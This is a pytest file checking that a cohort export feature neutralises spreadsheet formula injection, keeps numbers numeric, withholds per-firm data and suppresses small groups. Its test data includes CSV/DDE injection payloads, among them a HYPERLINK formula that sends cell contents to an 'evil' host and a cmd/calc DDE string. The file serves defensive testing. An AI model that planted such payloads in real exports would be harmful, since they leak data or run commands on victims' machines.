"""Cohort exports: formula injection neutralised (round trip through csv and openpyxl), numbers
stay numbers, no row per firm (so two exports cannot single one out), suppression on every sheet."""
from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from cohort_support import IN_PERIOD, add_result, csrf, enrol, enrolled_firms, login, make_cohort, make_firm
from openpyxl import load_workbook

from maturity.extensions import db

INJECTIONS = ['=HYPERLINK("http://evil/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1"]


@pytest.fixture
def org(create_organization):
    return create_organization(kind="agency")


@pytest.fixture
def analyst_client(client, create_user, org):
    login(client, create_user(role="analyst", organization_id=org.id))
    return client


def export(client, cohort, fmt: str):
    token = csrf(client, f"/agency/cohorts/{cohort.id}")
    response = client.post(f"/agency/cohorts/{cohort.id}/export?lang=en", data={"csrf_token": token, "format": fmt})
    assert response.status_code == 200
    assert response.headers["Content-Disposition"].startswith("attachment;")
    return response.data


def hostile_cohort(org):
    cohort = make_cohort(org, name=INJECTIONS[0], programme=INJECTIONS[1], description=" ".join(INJECTIONS[2:]))
    # Scores that drop: negative mean changes must stay numbers.
    for i in range(6):
        firm = make_firm(name=INJECTIONS[i % len(INJECTIONS)])
        enrol(cohort, firm)
        add_result(firm, 60.0 + i, when=IN_PERIOD - timedelta(days=90))
        add_result(firm, 50.0 + i, when=IN_PERIOD)
    return cohort


def test_csv_defuses_formulas_and_keeps_numbers(app_ctx, analyst_client, org):
    cohort = hostile_cohort(org)
    text = export(analyst_client, cohort, "csv").decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    cells = [cell for row in rows for cell in row]
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or _is_number(cell), repr(cell)
    assert "'" + INJECTIONS[0] in cells and "'" + INJECTIONS[1] in cells
    # Every text cell is quoted (RFC 4180) and numbers are bare, negatives included.
    assert '"' + ("'" + INJECTIONS[0]).replace('"', '""') + '"' in text
    quoted = list(csv.reader(io.StringIO(text), quoting=csv.QUOTE_NONNUMERIC))
    impact = [r for r in quoted if r[0] == "impact" and r[1] == "overall" and r[2] == "mean_change"]
    assert impact == [["impact", "overall", "mean_change", -10.0]]
    assert not any(name in text for name in ("Firma", "20131312955"))


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_xlsx_stores_text_as_text_and_numbers_as_numbers(app_ctx, analyst_client, org):
    cohort = hostile_cohort(org)
    workbook = load_workbook(io.BytesIO(export(analyst_client, cohort, "xlsx")))
    assert set(workbook.sheetnames) == {"cohort", "funnel", "indices", "dimensions", "breakdowns", "impact"}
    values = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                values.append(cell.value)
    assert INJECTIONS[0] in values and INJECTIONS[1] in values      # kept verbatim, as text
    impact = {row[0].value: row for row in workbook["impact"].iter_rows(min_row=2)}
    assert impact["overall"][2].value == -10.0 and impact["overall"][2].data_type == "n"
    funnel = {row[0].value: row[1].value for row in workbook["funnel"].iter_rows(min_row=2)}
    assert funnel == {"invited": 6, "joined": 6, "started": 6, "submitted": 6}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_every_formula_prefix_is_neutralised_and_numbers_stay_numbers(fmt):
    from maturity.cohorts.export import to_csv, to_xlsx

    tables = [("t", ["key", "text", "number"], [[f"k{i}", value, -1.5 * i] for i, value in enumerate(INJECTIONS)])]
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(to_csv(tables)), quoting=csv.QUOTE_NONNUMERIC))
        texts = [r[3] for r in rows[1:] if r[2] == "text"]
        numbers = [r[3] for r in rows[1:] if r[2] == "number"]
        assert texts == ["'" + value for value in INJECTIONS]
    else:
        sheet = load_workbook(io.BytesIO(to_xlsx(tables)))["t"]
        cells = list(sheet.iter_rows(min_row=2))
        assert all(row[1].data_type == "s" and row[1].quotePrefix for row in cells)   # text, never a formula
        texts = [row[1].value for row in cells]
        numbers = [row[2].value for row in cells]
        assert all(row[2].data_type == "n" for row in cells)
        # Verbatim, as text (XML turns the carriage return into a line feed).
        assert texts == [value.replace("\r", "\n") for value in INJECTIONS]
    assert numbers == [-1.5 * i for i in range(len(INJECTIONS))]
    assert all(isinstance(n, (int, float)) and not isinstance(n, bool) for n in numbers)


def _cells(book) -> dict[tuple[str, int, int], object]:
    return {(sheet.title, r, c): cell.value for sheet in book.worksheets
            for r, row in enumerate(sheet.iter_rows(), start=1) for c, cell in enumerate(row, start=1)
            if not (sheet.title == "cohort" and r == 7)}       # the export time


def test_no_export_has_a_row_per_firm_and_one_joining_firm_cannot_be_singled_out(app_ctx, analyst_client, org):
    """Two exports around one firm joining: every cell that changed is an aggregate over five or
    more firms, never that firm's own scores (there is no per-firm table to compare)."""
    cohort = make_cohort(org)
    firms = enrolled_firms(cohort, [10.0, 20.0, 30.0, 40.0, 50.0, 60.0], ruc=None)
    for firm in firms:
        firm.name = f"Nombre real {firm.id}"
    db.session.commit()
    before = load_workbook(io.BytesIO(export(analyst_client, cohort, "xlsx")))
    assert "firms" not in before.sheetnames
    late = make_firm(name="Nombre real tardío")
    enrol(cohort, late)
    add_result(late, 97.3, dims={"T1": 11.1})
    after = load_workbook(io.BytesIO(export(analyst_client, cohort, "xlsx")))
    changed = {k: v for k, v in _cells(after).items() if _cells(before).get(k) != v}
    assert changed, "the new firm should move the aggregates"
    assert 97.3 not in changed.values() and 11.1 not in changed.values()
    text = "".join(str(c.value) for book in (before, after) for s in book.worksheets for r in s.iter_rows() for c in r)
    assert "Nombre real" not in text


def test_aggregate_sheets_are_suppressed_like_the_pages(app_ctx, analyst_client, org):
    cohort = make_cohort(org)
    enrolled_firms(cohort, [80.0, 82.0, 84.0, 86.0], sector="tourism")
    enrolled_firms(cohort, [40.0] * 16, sector="retail")
    book = load_workbook(io.BytesIO(export(analyst_client, cohort, "xlsx")))
    rows = [[c.value for c in row] for row in book["breakdowns"].iter_rows(min_row=2)]
    by_sector = {r[1]: r for r in rows if r[0] == "Sector"}
    for label in ("Tourism", "Trade"):
        assert by_sector[label][2:6] == ["—", "—", "—", "—"]
        assert "withheld" in by_sector[label][6]
    indices = {row[0].value: row[2].value for row in book["indices"].iter_rows(min_row=2)}
    assert indices["overall"] == 48.6


def test_fewer_than_five_firms_export_no_figures(app_ctx, analyst_client, org):
    cohort = make_cohort(org)
    enrolled_firms(cohort, [10.0, 90.0, 30.0, 70.0])
    book = load_workbook(io.BytesIO(export(analyst_client, cohort, "xlsx")))
    indices = {row[0].value: row[2].value for row in book["indices"].iter_rows(min_row=2)}
    assert indices == {"overall": "—", "technology": "—", "management": "—"}
    dims = [row[2].value for row in book["dimensions"].iter_rows(min_row=2)]
    assert set(dims) == {"—"}


def test_export_needs_post_with_csrf_and_a_known_format(app_ctx, analyst_client, org):
    cohort = make_cohort(org)
    assert analyst_client.get(f"/agency/cohorts/{cohort.id}/export").status_code == 405
    assert analyst_client.post(f"/agency/cohorts/{cohort.id}/export", data={"format": "csv"}).status_code == 400
    token = csrf(analyst_client, f"/agency/cohorts/{cohort.id}")
    assert analyst_client.post(f"/agency/cohorts/{cohort.id}/export",
                               data={"csrf_token": token, "format": "pdf"}).status_code == 400


def test_the_cohort_pdf_goes_through_the_jobs_and_prints_the_published_figures(app, app_ctx, analyst_client, org,
                                                                               monkeypatch):
    from pypdf import PdfReader

    from maturity import jobs

    cohort = make_cohort(org, name="Cohorte PDF Ñandú")
    enrolled_firms(cohort, [80.0, 82.0, 84.0, 86.0], sector="tourism")
    enrolled_firms(cohort, [40.0] * 16, sector="retail")
    backend = app.extensions[jobs.EXTENSION_KEY]
    starts = []
    monkeypatch.setattr(backend, "_start", lambda *args: starts.append(args))
    url = f"/agency/cohorts/{cohort.id}/report.pdf?lang=en"
    first = analyst_client.get(url)
    assert first.status_code == 202 and "being prepared" in first.get_data(as_text=True)
    assert analyst_client.get(url).status_code == 202 and len(starts) == 1      # one render per document
    _job_id, _name_hash, fn_path, args, _timeout = starts[0]
    jobs.resolve(fn_path)(*args)                                              # draw it here, synchronously
    response = analyst_client.get(url)
    assert response.status_code == 200 and response.headers["Content-Type"] == "application/pdf"
    text = "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(response.data)).pages)
    assert "Cohorte PDF Ñandú" in text and "Cohort report" in text
    assert "48.6" in text                          # the cohort's overall mean is published
    assert "83.0" not in text                      # tourism (4 firms) is withheld, and so is retail
    with analyst_client.session_transaction() as session:
        assert session.get("lang") != "en"          # ?lang= on a PDF is never remembered
